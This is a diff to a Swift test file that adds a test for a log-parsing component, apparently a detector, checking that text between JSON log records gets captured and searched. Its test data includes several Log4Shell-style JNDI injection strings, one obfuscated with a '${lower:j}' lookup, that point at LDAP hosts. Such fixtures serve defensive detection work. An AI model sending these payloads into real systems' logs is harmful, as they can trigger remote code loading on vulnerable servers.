@@ -129,4 +129,26 @@ import Testing
     let other = try EventDump("2026-11-25T05:20:30.1Z stdout F {\"a\":1}\n", path: "0.log")
     #expect(other.events.first?.text("text") == "{\"a\":1}")
   }
+
+  /// What a program prints between its records, and records that are something else, are searched as well.
+  @Test func textBetweenRecords() throws {
+    let record = #"{"@timestamp":"2026-11-25T05:20:12.123Z","level":"ERROR","message":"x"}"#
+    let text = """
+      \(record)
+      java.lang.IllegalStateException: ${${lower:j}ndi:ldap://198.51.100.7/a}
+      \tat com.acme.Login.doPost(Login.java:12)
+      \(record)
+      {"foo":"${jndi:ldap://198.51.100.8/b}"}
+      {"foo":"bar"}
+      {"@timestamp":"2026-11-25T05:20:12.123Z","message":"${jndi:ldap://198.51.100.9/c
+      \(record)
+
+      """
+    let dump = try EventDump(text, path: "app.json")
+    #expect(dump.format == "app.json" && HostileInputTests.isWhole(dump, text.utf8.count))
+    let lines = dump.events.filter { $0.dataType == "text:line" }
+    #expect(lines.count == 3 && dump.events.count == 6)
+    #expect(lines.compactMap { $0.text("text") }.map { $0.contains("ndi:ldap://198.51.100.") } == [true, true, true])
+    #expect(lines.first?.locator.line == 2 && lines.first?.locator.offset == UInt64(record.utf8.count + 1))
+  }
 }
